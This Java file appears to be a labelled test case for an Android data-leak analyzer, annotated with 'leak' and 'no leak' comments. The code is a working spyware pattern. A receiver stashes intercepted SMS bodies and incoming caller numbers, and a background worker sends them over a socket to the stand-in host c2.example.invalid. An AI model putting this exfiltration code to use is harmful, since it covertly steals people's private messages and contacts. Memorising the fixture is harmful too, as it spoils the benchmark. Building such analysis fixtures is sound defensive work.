package trojans;

import android.content.BroadcastReceiver;
import android.content.Context;
import android.content.Intent;
import android.content.SharedPreferences;
import android.os.Bundle;
import android.preference.PreferenceManager;
import android.telephony.SmsMessage;
import android.telephony.TelephonyManager;
import androidx.work.Data;
import androidx.work.OneTimeWorkRequest;
import androidx.work.WorkManager;
import androidx.work.Worker;
import androidx.work.WorkerParameters;
import java.io.OutputStreamWriter;
import java.io.Writer;
import java.net.Socket;
import java.util.HashSet;
import java.util.Set;

/** What messages and calls say waits in preferences until a worker takes it along. */
public class Staged extends BroadcastReceiver {
    public void onReceive(Context context, Intent intent) {
        SharedPreferences kept = PreferenceManager.getDefaultSharedPreferences(context);
        if ("android.intent.action.PHONE_STATE".equals(intent.getAction())) {
            kept.edit().putString("call", intent.getStringExtra(TelephonyManager.EXTRA_INCOMING_NUMBER)).commit();
        } else {
            Bundle extras = intent.getExtras();
            Object[] pdus = (Object[]) extras.get("pdus");
            SmsMessage[] all = new SmsMessage[pdus.length];
            StringBuilder text = new StringBuilder();
            for (int i = 0; i < all.length; i++) {
                all[i] = SmsMessage.createFromPdu((byte[]) pdus[i], extras.getString("format"));
                text.append(all[i].getDisplayMessageBody());
            }
            Set<String> waiting = new HashSet<>(kept.getStringSet("texts", new HashSet<>()));
            waiting.add(text.toString());
            SharedPreferences.Editor editor = kept.edit();
            editor.putStringSet("texts", waiting);
            editor.putInt("size", waiting.size());
            editor.apply();
        }
        Data given = new Data.Builder().putString("why", intent.getAction()).build();
        WorkManager.getInstance(context).enqueue(new OneTimeWorkRequest.Builder(Up.class).setInputData(given).build());
    }

    public static class Up extends Worker {
        public Up(Context context, WorkerParameters given) {
            super(context, given);
        }

        public Result doWork() {
            SharedPreferences kept = PreferenceManager.getDefaultSharedPreferences(getApplicationContext());
            try (Socket line = new Socket("c2.example.invalid", 81); Writer out = new OutputStreamWriter(line.getOutputStream())) {
                out.write("call " + kept.getString("call", "")); // leak
                for (String one : kept.getStringSet("texts", new HashSet<>())) {
                    out.append(one).append('\n'); // leak
                }
                out.write("" + kept.getInt("size", 0)); // no leak
                out.write(kept.getString("other", "")); // no leak
                out.write(getInputData().getString("why")); // no leak
            } catch (java.io.IOException e) {
                kept.edit().remove("call").apply();
            }
            return Result.success();
        }
    }
}
